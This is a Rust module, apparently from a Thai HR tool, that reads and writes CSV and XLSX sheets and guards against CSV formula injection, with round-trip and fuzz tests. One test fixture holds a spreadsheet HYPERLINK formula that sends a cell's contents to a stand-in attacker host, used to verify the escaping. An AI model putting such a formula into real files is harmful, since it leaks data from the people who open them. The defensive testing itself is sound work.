//! Reading and writing a sheet of text cells, as CSV (UTF-8) or XLSX, chosen by extension.

use std::path::Path;

use calamine::{Data, Reader, Xlsx};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Xlsx,
}

pub fn format_of(path: &Path) -> Result<Format, String> {
    match path
        .extension()
        .and_then(|e| e.to_str())
        .map(|e| e.to_ascii_lowercase())
        .as_deref()
    {
        Some("csv") => Ok(Format::Csv),
        Some("xlsx") => Ok(Format::Xlsx),
        _ => Err(format!(
            "{}: ใช้ไฟล์ .csv หรือ .xlsx / use a .csv or .xlsx file",
            path.display()
        )),
    }
}

/// What a spreadsheet reads as a formula when a cell begins with it (OWASP: CSV injection).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as written to CSV: one that a spreadsheet would run as a formula (a unit name
/// `=HYPERLINK(...)`, an e-mail `@...`) is written as text, behind a single quote.
fn to_csv(cell: &str) -> String {
    if cell.starts_with(FORMULA_STARTS) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

/// A cell as read from CSV: the quote `to_csv` put before a formula's first character is
/// taken off again, so an export imports back as it was.
fn from_csv(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

/// All rows of the file (the first is the header), every cell as trimmed text.
pub fn read(path: &Path) -> Result<Vec<Vec<String>>, String> {
    let format = format_of(path)?;
    let bytes = std::fs::read(path)
        .map_err(|e| format!("{}: อ่านไฟล์ไม่ได้ / cannot read the file: {e}", path.display()))?;
    parse(format, &bytes).map_err(|e| format!("{}: {e}", path.display()))
}

/// The rows of a file's bytes. Bytes that are not UTF-8 text become U+FFFD in their cell,
/// which the import's checks refuse with the row and column (`text.encoding`), so one bad
/// cell does not hide the problems of the rows after it.
pub fn parse(format: Format, bytes: &[u8]) -> Result<Vec<Vec<String>>, String> {
    match format {
        Format::Csv => {
            let mut r = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(bytes);
            let mut rows = Vec::new();
            for rec in r.byte_records() {
                let rec =
                    rec.map_err(|e| format!("อ่านไฟล์ CSV ไม่ได้ / cannot read the CSV file: {e}"))?;
                rows.push(
                    rec.iter()
                        .map(|c| {
                            let c = String::from_utf8_lossy(c);
                            from_csv(c.trim().trim_start_matches('\u{feff}')).to_string()
                        })
                        .collect(),
                );
            }
            Ok(rows)
        }
        Format::Xlsx => {
            let damaged = |e: &dyn std::fmt::Display| {
                format!(
                    "อ่านไฟล์ XLSX ไม่ได้ (ไฟล์เสียหายหรือไม่ใช่ XLSX) / cannot read the XLSX file (damaged or not XLSX): {e}"
                )
            };
            let mut wb = Xlsx::new(std::io::Cursor::new(bytes)).map_err(|e| damaged(&e))?;
            let sheet = wb
                .sheet_names()
                .first()
                .cloned()
                .ok_or_else(|| "ไม่มีแผ่นงาน / no worksheet".to_string())?;
            let range = wb.worksheet_range(&sheet).map_err(|e| damaged(&e))?;
            Ok(range
                .rows()
                .map(|row| row.iter().map(cell_text).collect())
                .collect())
        }
    }
}

/// A cell as the text a person typed: whole numbers without ".0" (national IDs, position
/// numbers), Excel dates as ISO dates.
fn cell_text(c: &Data) -> String {
    match c {
        Data::Empty => String::new(),
        Data::String(s) => s.trim().to_string(),
        Data::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{}", *f as i64),
        Data::Float(f) => f.to_string(),
        Data::Int(i) => i.to_string(),
        Data::Bool(b) => b.to_string(),
        Data::DateTime(dt) => dt
            .as_datetime()
            .map(|t| t.date().format("%Y-%m-%d").to_string())
            .unwrap_or_default(),
        Data::DateTimeIso(s) => s.chars().take(10).collect(),
        Data::DurationIso(s) => s.clone(),
        Data::Error(e) => format!("#{e:?}"),
    }
}

/// Writes rows (the first is the header) to CSV or XLSX. XLSX cells are text, so national
/// IDs keep their leading digits and Excel does not reformat dates.
pub fn write(path: &Path, rows: &[Vec<String>]) -> Result<(), String> {
    match format_of(path)? {
        Format::Csv => {
            let mut w =
                csv::Writer::from_path(path).map_err(|e| format!("{}: {e}", path.display()))?;
            for r in rows {
                w.write_record(r.iter().map(|c| to_csv(c)))
                    .map_err(|e| e.to_string())?;
            }
            w.flush().map_err(|e| e.to_string())
        }
        Format::Xlsx => {
            let mut wb = rust_xlsxwriter::Workbook::new();
            let ws = wb.add_worksheet();
            let bold = rust_xlsxwriter::Format::new().set_bold();
            for (i, r) in rows.iter().enumerate() {
                for (j, c) in r.iter().enumerate() {
                    let res = if i == 0 {
                        ws.write_string_with_format(i as u32, j as u16, c, &bold)
                    } else {
                        ws.write_string(i as u32, j as u16, c)
                    };
                    res.map_err(|e| e.to_string())?;
                }
            }
            wb.save(path)
                .map_err(|e| format!("{}: {e}", path.display()))
        }
    }
}

#[cfg(test)]
mod csv_tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    /// Issue 21: free text that a spreadsheet would run is exported as text and imports back.
    #[test]
    fn formulas_are_written_as_text_and_read_back_as_they_were() {
        let dir = std::env::temp_dir().join(format!("bmahr_csv_{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("t.csv");
        let cells = [
            "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"click\")",
            "+66 81 234 5678",
            "-1",
            "@evil",
            "ordinary",
            "'quoted already",
            "",
        ];
        let rows = vec![
            vec!["h".to_string(); cells.len()],
            cells.iter().map(|c| c.to_string()).collect(),
        ];
        write(&path, &rows).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        for line in text.lines().skip(1) {
            for c in line.split(',') {
                let c = c.trim_start_matches('"');
                assert!(!c.starts_with(FORMULA_STARTS), "{c} in {text}");
            }
        }
        assert_eq!(read(&path).unwrap()[1], rows[1]);
        let _ = std::fs::remove_dir_all(&dir);
    }
}

/// Issue 21: whatever bytes a file holds, reading it answers rows or an error, never a
/// panic; and what it reads can be checked as any kind without one either.
#[cfg(test)]
mod fuzz_tests {
    #![allow(clippy::unwrap_used)]
    use proptest::prelude::*;

    use super::*;
    use crate::files::import::{check, Facts};
    use crate::files::Kind;

    /// A small valid workbook in the people layout, built once.
    fn workbook() -> &'static [u8] {
        static BYTES: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
        BYTES.get_or_init(|| {
            let mut wb = rust_xlsxwriter::Workbook::new();
            let ws = wb.add_worksheet();
            let rows = [
                [
                    "national_id",
                    "title",
                    "first_name_th",
                    "last_name_th",
                    "birth_date",
                ],
                ["1101700203450", "นาย", "สมชาย", "ใจดี", "05/05/2523"],
                ["3100600123450", "นาง", "สมศรี", "มีสุข", "2520-02-28"],
            ];
            for (i, r) in rows.iter().enumerate() {
                for (j, c) in r.iter().enumerate() {
                    ws.write_string(i as u32, j as u16, *c).unwrap();
                }
            }
            ws.write_number(3, 0, 1101700203450.0).unwrap();
            ws.write_number(3, 4, 29000.5).unwrap();
            wb.save_to_buffer().unwrap()
        })
    }

    fn check_all(rows: &[Vec<String>]) {
        let today = bmahr_core::ThaiDate::from_ce(2026, 1, 5).unwrap();
        let bar = indicatif::ProgressBar::hidden();
        for kind in [Kind::People, Kind::Positions, Kind::Units] {
            let _ = check(kind, rows, &Facts::default(), today, &bar);
        }
    }

    #[test]
    fn the_workbook_reads() {
        let rows = parse(Format::Xlsx, workbook()).unwrap();
        assert_eq!(rows[1][0], "1101700203450");
        assert_eq!(rows[3][0], "1101700203450");
        assert_eq!(rows[3][4], "29000.5");
    }

    /// Found by `any_cell_text_in_a_workbook_reads_without_panic`: rust_xlsxwriter 0.80
    /// panicked on `_x` followed by non-ASCII text (its issue 141, fixed in 0.84.2), so an
    /// export of a name like `abc_xกข` brought `bmahr export` down.
    #[test]
    fn xlsx_cells_with_underscore_x_round_trip() {
        let cells = ["abc_xกข", "_xA\u{1ec71}", "foo_x0000_bar", "_x", "ก_x_"];
        let mut wb = rust_xlsxwriter::Workbook::new();
        let ws = wb.add_worksheet();
        for (j, c) in cells.iter().enumerate() {
            ws.write_string(0, j as u16, *c).unwrap();
        }
        let rows = parse(Format::Xlsx, &wb.save_to_buffer().unwrap()).unwrap();
        assert_eq!(rows[0], cells);
    }

    #[test]
    fn bytes_that_are_not_utf8_are_marked_not_dropped() {
        let rows = parse(Format::Csv, b"a,b\n\xff\xfe,ok\n").unwrap();
        assert_eq!(rows[1][0], "\u{fffd}\u{fffd}");
        assert_eq!(rows[1][1], "ok");
    }

    proptest! {
        #[test]
        fn any_csv_bytes_read_and_check_without_panic(
            bytes in prop_oneof![
                proptest::collection::vec(any::<u8>(), 0..2048),
                "[a-z0-9ก-๙\",\r\n '=+@\t-]{0,400}".prop_map(String::into_bytes),
            ]
        ) {
            if let Ok(rows) = parse(Format::Csv, &bytes) {
                check_all(&rows);
            }
        }

        #[test]
        fn any_xlsx_bytes_read_without_panic(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
            if let Ok(rows) = parse(Format::Xlsx, &bytes) {
                check_all(&rows);
            }
        }

        /// Any text in any cell of a real workbook (control characters, which XLSX writes
        /// as `_x0000_` escapes, included) reads back and is checked without panic.
        #[test]
        fn any_cell_text_in_a_workbook_reads_without_panic(
            cells in proptest::collection::vec(proptest::collection::vec(any::<String>(), 0..6), 1..5),
        ) {
            let mut wb = rust_xlsxwriter::Workbook::new();
            let ws = wb.add_worksheet();
            for (i, r) in cells.iter().enumerate() {
                for (j, c) in r.iter().enumerate() {
                    ws.write_string(i as u32, j as u16, c).unwrap();
                }
            }
            let bytes = wb.save_to_buffer().unwrap();
            let rows = parse(Format::Xlsx, &bytes).unwrap();
            check_all(&rows);
        }

        /// A real workbook with bytes changed or cut off: the zip and XML readers see
        /// damaged structure, not only noise.
        #[test]
        fn damaged_workbooks_read_without_panic(
            edits in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..8),
            cut in any::<prop::sample::Index>(),
            do_cut in any::<bool>(),
        ) {
            let mut bytes = workbook().to_vec();
            for (at, b) in edits {
                let i = at.index(bytes.len());
                bytes[i] = b;
            }
            if do_cut {
                bytes.truncate(cut.index(bytes.len()));
            }
            if let Ok(rows) = parse(Format::Xlsx, &bytes) {
                check_all(&rows);
            }
        }
    }
}
